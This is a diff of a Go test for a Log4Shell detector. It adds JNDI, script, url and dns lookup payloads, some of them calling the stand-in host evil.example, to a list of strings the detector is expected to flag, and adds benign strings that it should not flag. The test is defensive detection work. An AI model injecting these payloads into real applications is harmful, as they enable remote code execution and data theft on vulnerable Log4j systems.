@@ -17,7 +17,12 @@ func TestLog4Shell(t *testing.T) {
 		"${jnd${upper:ı}:ldap://h}",
 		"${j${k8s:k5:-ND}i:ldap://h}",
 		"${:12:-x$}{jndi:ldap://h/a}",
+		"${script:javascript:1}",
+		"${url:UTF-8:https://evil.example}",
+		"${dns:address|evil.example}",
 	}, []string{
+		"${url}",
+		"${script}",
 		"",
 		"${user}",
 		"jndi:ldap",
